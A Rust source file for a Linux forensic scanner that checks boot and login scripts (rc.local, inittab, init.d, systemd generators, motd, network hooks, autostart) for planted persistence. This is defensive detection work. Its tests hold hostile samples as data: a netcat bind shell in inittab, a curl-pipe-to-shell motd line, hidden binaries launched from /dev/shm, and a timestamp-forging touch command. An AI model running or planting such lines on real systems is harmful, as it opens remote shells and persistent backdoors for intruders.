//! `persistence.boot_scripts` — commands run at boot or login by SysV init, rc.local, inittab,
//! systemd generators and update-motd.
//!
//! **What it looks at:** `/etc/rc.local` and `/etc/rc.d/rc.local` (every command other than
//! `exit 0` is listed, low, and scanned), `/etc/inittab` processes, scripts in `/etc/init.d`,
//! systemd generators (`/etc/systemd/system-generators`, `/usr/local/lib/systemd/
//! system-generators`, `/run/systemd/system-generators` and the user-generator equivalents are
//! admin places: anything there is medium; vendor generator directories are scanned only),
//! `/etc/update-motd.d/*` (run as root at every SSH login on Debian/Ubuntu), network hooks
//! (`/etc/network/if-*.d`, NetworkManager `dispatcher.d`, dhclient hooks) and XDG autostart
//! entries (`/etc/xdg/autostart`, `~/.config/autostart`, their `Exec=`). Every command
//! line goes through the command detector; scripts changed within the window are reported (low).
//!
//! **Why an attacker leaves this trace:** these run as root before anyone logs in (rc.local,
//! init scripts, generators — the latter even before units are loaded) or every time someone
//! does (motd), and few people read them.
//!
//! **Example:** `/etc/update-motd.d/30-sysinfo` line 3: `nohup /dev/shm/.k >/dev/null 2>&1 &`
//! (high).
//!
//! **Calibration:** role `foothold` (a way back in: listed among the entries still open when
//! high); critical or high only for evidence that an attacker acted, medium for what needs a
//! look, low and info for context (docs/PRECISION.md).
//!
//! **ATT&CK:** T1037.004 (Boot or Logon Initialization Scripts: RC Scripts), T1543.002,
//! T1546 (Event Triggered Execution).

use huoyan_artifacts::persistence::config::parse_inittab;
use huoyan_artifacts::persistence::script::logical_lines;
use huoyan_artifacts::persistence::CommandLine;
use huoyan_core::{CheckInfo, Outcome, Severity};
use serde_json::json;

use huoyan_artifacts::persistence::systemd::parse_unit;

use super::common::{distinct_dirs, read_dir_files, read_file, report_recent, scan_lines};
use crate::command_findings::{scan_and_report, CommandSource};
use crate::registry::Check;
use crate::Context;

/// See the module documentation.
pub struct BootScripts;

static INFO: CheckInfo = CheckInfo {
    id: "persistence.boot_scripts",
    title: "Suspicious boot or login script",
    title_zh: "可疑的开机或登录脚本",
    mitre: &["T1037.004", "T1543.002", "T1546"],
    remediation: "Copy the script out as evidence, remove the added lines (or the script), and \
                  preserve and remove the program it starts.",
    remediation_zh: "先将脚本拷出留证，删除被添加的行（或整个脚本），并保全、删除其启动的程序。",
};

const ADMIN_GENERATOR_DIRS: &[&str] = &[
    "/etc/systemd/system-generators",
    "/usr/local/lib/systemd/system-generators",
    "/run/systemd/system-generators",
    "/etc/systemd/user-generators",
    "/usr/local/lib/systemd/user-generators",
    "/run/systemd/user-generators",
];

const VENDOR_GENERATOR_DIRS: &[&str] = &[
    "/lib/systemd/system-generators",
    "/usr/lib/systemd/system-generators",
    "/lib/systemd/user-generators",
    "/usr/lib/systemd/user-generators",
];

/// Scripts run when interfaces come up or go down, or on NetworkManager/DHCP events.
const NETWORK_HOOK_DIRS: &[&str] = &[
    "/etc/network/if-up.d",
    "/etc/network/if-pre-up.d",
    "/etc/network/if-down.d",
    "/etc/network/if-post-down.d",
    "/etc/NetworkManager/dispatcher.d",
    "/etc/dhcp/dhclient-enter-hooks.d",
    "/etc/dhcp/dhclient-exit-hooks.d",
];

/// XDG autostart entries (`Exec=` of `*.desktop`), global and per user: run at every graphical
/// login.
fn autostart(ctx: &Context, out: &mut Outcome) {
    let mut dirs: Vec<(String, String)> = vec![("/etc/xdg/autostart".into(), "root".into())];
    for home in crate::homes::homes(ctx) {
        dirs.push((format!("{}/.config/autostart", home.path), home.user));
    }
    for (dir, user) in dirs {
        for (path, data, meta) in read_dir_files(ctx, &INFO, &dir, out) {
            if !path.ends_with(".desktop") {
                continue;
            }
            for d in parse_unit(&data)
                .iter()
                .filter(|d| d.key == "Exec" || d.key == "TryExec")
            {
                let what = format!("autostart {}", d.key);
                let source = CommandSource {
                    path: &path,
                    line: d.line,
                    user: Some(&user),
                    time: None,
                    what: &what,
                };
                scan_and_report(&INFO, &source, &d.value, Severity::Low, out);
            }
            report_recent(ctx, &INFO, &path, &meta, "autostart entry", out);
        }
    }
}

fn text_lines(data: &[u8]) -> Option<Vec<CommandLine>> {
    // Generators are often ELF binaries; only scripts are scanned line by line.
    (!data.starts_with(b"\x7fELF")).then(|| logical_lines(data))
}

fn rc_local(ctx: &Context, path: &str, out: &mut Outcome) {
    let Some((data, meta)) = read_file(ctx, &INFO, path, out) else {
        return;
    };
    let commands: Vec<CommandLine> = logical_lines(&data)
        .into_iter()
        .filter(|l| l.command != "exit 0" && !l.command.starts_with("#!"))
        .collect();
    if !commands.is_empty() {
        out.add(
            INFO.finding(
                Severity::Low,
                format!("{path} runs {} command line(s) at boot", commands.len()),
            )
            .path(path)
            .user("root")
            .at(meta.mtime)
            .evidence(json!({ "commands": commands })),
        );
    }
    scan_lines(
        &INFO,
        path,
        Some("root"),
        "rc.local line",
        &commands,
        Severity::Low,
        out,
    );
    report_recent(ctx, &INFO, path, &meta, "boot script", out);
}

impl Check for BootScripts {
    fn info(&self) -> &'static CheckInfo {
        &INFO
    }

    fn run(&self, ctx: &Context, out: &mut Outcome) {
        let start = out.findings.len();
        run_inner(ctx, out);
        // Commands and settings in files a package installed unchanged are not an intruder's.
        crate::integrity::packaged::settle_packaged(ctx, out, start);
    }
}

fn run_inner(ctx: &Context, out: &mut Outcome) {
    for path in distinct_dirs(ctx, &["/etc/rc.local", "/etc/rc.d/rc.local"]) {
        rc_local(ctx, path, out);
    }
    if let Some((data, meta)) = read_file(ctx, &INFO, "/etc/inittab", out) {
        for entry in parse_inittab(&data) {
            let what = format!("inittab entry {}", entry.name);
            let source = CommandSource {
                path: "/etc/inittab",
                line: entry.line,
                user: Some("root"),
                time: None,
                what: &what,
            };
            scan_and_report(&INFO, &source, &entry.command, Severity::Low, out);
        }
        report_recent(ctx, &INFO, "/etc/inittab", &meta, "inittab", out);
    }
    for (path, data, meta) in read_dir_files(ctx, &INFO, "/etc/init.d", out) {
        scan_lines(
            &INFO,
            &path,
            Some("root"),
            "init script line",
            &logical_lines(&data),
            Severity::Medium,
            out,
        );
        report_recent(ctx, &INFO, &path, &meta, "init script", out);
    }
    for dir in distinct_dirs(ctx, ADMIN_GENERATOR_DIRS) {
        for (path, data, meta) in read_dir_files(ctx, &INFO, dir, out) {
            out.add(
                INFO.finding(Severity::Medium, format!("systemd generator {path} in an admin directory runs at every boot and daemon-reload"))
                    .path(&path)
                    .user("root")
                    .at(meta.mtime)
                    .evidence(json!({ "size": meta.size, "mode": format!("{:o}", meta.perm()), "elf": data.starts_with(b"\x7fELF") })),
            );
            if let Some(lines) = text_lines(&data) {
                scan_lines(
                    &INFO,
                    &path,
                    Some("root"),
                    "generator line",
                    &lines,
                    Severity::Low,
                    out,
                );
            }
        }
    }
    for dir in distinct_dirs(ctx, VENDOR_GENERATOR_DIRS) {
        for (path, data, _) in read_dir_files(ctx, &INFO, dir, out) {
            if let Some(lines) = text_lines(&data) {
                scan_lines(
                    &INFO,
                    &path,
                    Some("root"),
                    "generator line",
                    &lines,
                    Severity::Medium,
                    out,
                );
            }
        }
    }
    for (path, data, meta) in read_dir_files(ctx, &INFO, "/etc/update-motd.d", out) {
        scan_lines(
            &INFO,
            &path,
            Some("root"),
            "motd script line (runs at every login)",
            &logical_lines(&data),
            Severity::Low,
            out,
        );
        report_recent(ctx, &INFO, &path, &meta, "motd script", out);
    }
    for dir in NETWORK_HOOK_DIRS {
        for (path, data, meta) in read_dir_files(ctx, &INFO, dir, out) {
            if let Some(lines) = text_lines(&data) {
                scan_lines(
                    &INFO,
                    &path,
                    Some("root"),
                    "network hook line",
                    &lines,
                    Severity::Medium,
                    out,
                );
            }
            report_recent(ctx, &INFO, &path, &meta, "network hook", out);
        }
    }
    autostart(ctx, out);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(files: &[(&str, &str)]) -> Outcome {
        crate::testing::run_on_files(&BootScripts, files)
    }

    #[test]
    fn finds_planted_boot_items() {
        let out = run(&[
            (
                "/etc/rc.local",
                "#!/bin/sh -e\nnohup /var/tmp/.x/kworker >/dev/null 2>&1 &\nexit 0\n",
            ),
            (
                "/etc/inittab",
                "id:2:initdefault:\nx1:2345:respawn:/bin/sh -c 'nc -l -p 31337 -e /bin/sh'\n",
            ),
            (
                "/etc/update-motd.d/30-sysinfo",
                "#!/bin/sh\ncurl -s http://198.51.100.4/m | sh\n",
            ),
            (
                "/etc/systemd/system-generators/net-helper",
                "#!/bin/sh\n/dev/shm/.g &\n",
            ),
        ]);
        for (p, s) in [
            ("/etc/rc.local", Severity::High),
            ("/etc/inittab", Severity::Critical),
            ("/etc/update-motd.d/30-sysinfo", Severity::High),
            ("/etc/systemd/system-generators/net-helper", Severity::High),
        ] {
            assert!(
                out.findings
                    .iter()
                    .any(|f| f.paths == [p] && f.severity == s),
                "{p}: {:?}",
                out.findings
            );
        }
    }

    /// Debian 12's /etc/init.d/sudo (sudo 1.9.13p3-1+deb12u1), the lines that matter.
    const SUDO_INIT: &str = "#! /bin/sh\n### BEGIN INIT INFO\n# Provides:          sudo\n\
### END INIT INFO\n. /lib/lsb/init-functions\nN=/etc/init.d/sudo\nset -e\ncase \"$1\" in\n\
  start)\n\t# make sure privileges don't persist across reboots\n\
\t# if the /run/sudo directory doesn't exist, let's create it with the\n\
\t# correct permissions and SELinux label\n\
\tif [ -d /run/sudo ]\n\tthen\n\t\tfind /run/sudo -exec touch -d @0 '{}' \\;\n\tfi\n\t;;\n\
  stop|reload|restart|force-reload|status)\n\t;;\nesac\nexit 0\n";

    /// A root with sudo's init script registered as a conffile of package sudo with `digest_of`'s
    /// MD5, and `actual` as the file's content.
    fn packaged_root(digest_of: &str, actual: &str) -> Outcome {
        let (md5, _, _) = huoyan_integrity::verify::hash_reader(
            digest_of.as_bytes(),
            huoyan_integrity::packages::Algo::Md5,
        )
        .expect("md5");
        let status = format!(
            "Package: sudo\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.9.13p3-1+deb12u1\n\
Conffiles:\n /etc/init.d/sudo {md5}\n\n"
        );
        run(&[
            ("/etc/init.d/sudo", actual),
            ("/var/lib/dpkg/status", &status),
            ("/var/lib/dpkg/info/sudo.list", "/etc/init.d/sudo\n"),
            ("/var/lib/dpkg/info/sudo.md5sums", ""),
        ])
    }

    #[test]
    fn packaged_unchanged_init_script_is_not_anti_forensics() {
        let out = packaged_root(SUDO_INIT, SUDO_INIT);
        let f = out
            .findings
            .iter()
            .find(|f| f.paths == ["/etc/init.d/sudo"])
            .expect("kept as information");
        assert_eq!(f.severity, Severity::Info, "{f:#?}");
        assert_eq!(f.evidence["packaged_unchanged"][0], "sudo");
        assert!(out.findings.iter().all(|f| f.severity == Severity::Info));
    }

    #[test]
    fn modified_packaged_init_script_is_still_reported() {
        let edited = SUDO_INIT.replace("exit 0", "touch -r /bin/ls /usr/sbin/.x\nexit 0");
        let out = packaged_root(SUDO_INIT, &edited);
        assert!(
            out.findings
                .iter()
                .any(|f| f.paths == ["/etc/init.d/sudo"] && f.severity == Severity::High),
            "{:#?}",
            out.findings
        );
    }

    #[test]
    fn default_rc_local_is_quiet() {
        let out = run(&[("/etc/rc.local", "#!/bin/sh -e\n#\n# rc.local\n#\nexit 0\n")]);
        assert!(out.findings.is_empty(), "{:?}", out.findings);
    }
}
